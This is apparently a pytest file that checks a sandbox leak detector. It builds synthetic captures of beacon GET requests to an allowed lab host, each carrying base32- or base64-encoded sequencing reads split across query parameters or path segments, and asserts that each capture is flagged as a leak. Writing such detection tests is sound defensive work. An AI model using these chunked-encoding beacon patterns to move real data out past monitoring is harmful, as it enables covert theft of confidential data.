"""Reads sent a URL at a time: each GET's query string or path carrying a piece.

40 kB of reads, 189 characters of base32 (upper or lower case) in a parameter of each request to the
allowed LIMS (a beacon, a "telemetry" GET): the request head was one view with the value inside it,
and base32, read only as a whole view, never saw the value alone.  Each replayed CLEAN; now each value
is a view of its own and the reads are a leak.  (Hex and base64 were read inside the head already.)

The same beacon with the piece in the path: base64url in one segment (``/t/<piece>/p.gif``: url-safe
base64 beside the path's slashes was no base64 run) or base32 split over segments of 40 characters
each replayed CLEAN too; now the path's long segments, joined, are a view.
"""

from __future__ import annotations

import base64
import gzip

import pytest

from sandbox.captures.writer import PcapWriter, TcpConversation
from sandbox.replay import replay
from tests.hostile.uploads import ALLOWED


def _split(text: str, size: int) -> str:
    return "/".join(text[at: at + size] for at in range(0, len(text), size))


ENCODINGS = {"base32": (lambda d: base64.b32encode(d).rstrip(b"="), 189),
             "base32, lower case": (lambda d: base64.b32encode(d).rstrip(b"=").lower(), 189),
             # standard base64 left unescaped: its "+" read as a space, as a form's (the pieces never joined)
             "base64 of a gzip, its + unescaped": (lambda d: base64.b64encode(gzip.compress(d)), 48)}
# what a request's path is made of its piece
PATHS = {"base64url in a segment": (lambda d: base64.urlsafe_b64encode(d).rstrip(b"="), 160,
                                    lambda piece: f"/t/{piece}/p.gif"),
         "base32 over segments": (lambda d: base64.b32encode(d).rstrip(b"="), 144,
                                  lambda piece: f"/t/{_split(piece, 40)}")}


def _beacon(tmp, run, name: str, targets: list[str]) -> dict:
    capture = tmp / f"target-{name.replace(' ', '').replace(',', '-')}.pcap"
    with PcapWriter(capture) as w:
        c = TcpConversation(w, ("10.0.0.2", 40000), (ALLOWED, 80), t0=1.0)
        for target in targets:
            c.send(f"GET {target} HTTP/1.1\r\nHost: lims.lab.example\r\n\r\n".encode())
            c.send(b"HTTP/1.1 204 No Content\r\n\r\n", from_client=False)
        c.close()
    return replay([capture], [run], allow=[ALLOWED], cache_dir=tmp / "cache", jobs=1).report


@pytest.mark.parametrize("name", ENCODINGS)
def test_reads_a_url_at_a_time_are_a_leak(reads, name):
    tmp, run, fastq = reads
    encode, size = ENCODINGS[name]
    text = encode(fastq).decode()
    report = _beacon(tmp, run, name, [f"/api/v1/beacon?id={n}&d={text[at: at + size]}"
                                      for n, at in enumerate(range(0, len(text), size))])
    assert report["verdict"] == "leak", name
    assert any(f["severity"] in ("high", "critical") for f in report["findings"])


@pytest.mark.parametrize("name", PATHS)
def test_reads_a_path_at_a_time_are_a_leak(reads, name):
    tmp, run, fastq = reads
    encode, size, path = PATHS[name]
    text = encode(fastq).decode()
    report = _beacon(tmp, run, name, [path(text[at: at + size]) for at in range(0, len(text), size)])
    assert report["verdict"] == "leak", name
    assert any(f["severity"] in ("high", "critical") for f in report["findings"])
